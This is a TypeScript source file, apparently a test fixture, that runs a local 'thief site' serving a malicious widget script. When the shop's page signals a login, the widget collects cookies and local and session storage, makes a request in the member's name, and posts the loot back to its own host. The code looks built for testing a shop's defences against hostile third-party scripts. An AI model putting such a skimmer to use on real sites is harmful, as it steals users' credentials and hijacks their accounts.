import { text } from 'node:stream/consumers';
import { type Site, startSite } from './site.js';

/** What came of a widget in the shop's page. */
export interface Loot {
  /** Everything that a script could read there. In memory alone: there are credentials among it. */
  readonly found: readonly string[];
  /** The status with which the shop answered what the script did in the member's name. */
  readonly acted: number;
}

/** Another site, on another host: it offers a widget that steals, and a page that writes to the shop. */
export interface ThiefSite extends Site {
  readonly origin: string;
  readonly loot: Promise<Loot>;
}

/** @param target what the widget asks of the shop while the page is open: `{ method, path, body }` */
export async function startThiefSite(target: {
  method: string;
  path: string;
  body: unknown;
}): Promise<ThiefSite> {
  let bringHome: (loot: Loot) => void = () => undefined;
  const loot = new Promise<Loot>((resolve) => (bringHome = resolve));
  const site = await startSite((incoming, answer) => {
    if (incoming.url === '/widget.js')
      return void answer.setHeader('content-type', 'text/javascript').end(widget(target));
    if (incoming.url === '/loot')
      void text(incoming).then((found) => {
        bringHome(JSON.parse(found) as Loot);
        answer.writeHead(204).end();
      });
    else answer.setHeader('content-type', 'text/html').end('<!doctype html><title>Win a teapot</title>');
  });
  return { ...site, origin: `http://127.0.0.1:${site.port}`, loot };
}

/** Runs in the shop's page, with all that the page's own scripts may do. */
const widget = (target: { method: string; path: string; body: unknown }): string => `
  const home = new URL(document.currentScript.src).origin;
  document.addEventListener('logged-in', async () => {
    const found = [document.cookie, ...Object.values(localStorage), ...Object.values(sessionStorage)];
    const { method, path, body } = ${JSON.stringify(target)};
    const { status } = await shop.call(method, path, body);
    await fetch(home + '/loot', {
      method: 'POST',
      mode: 'no-cors',
      body: JSON.stringify({ found: found.filter(Boolean), acted: status }),
    });
  });
`;
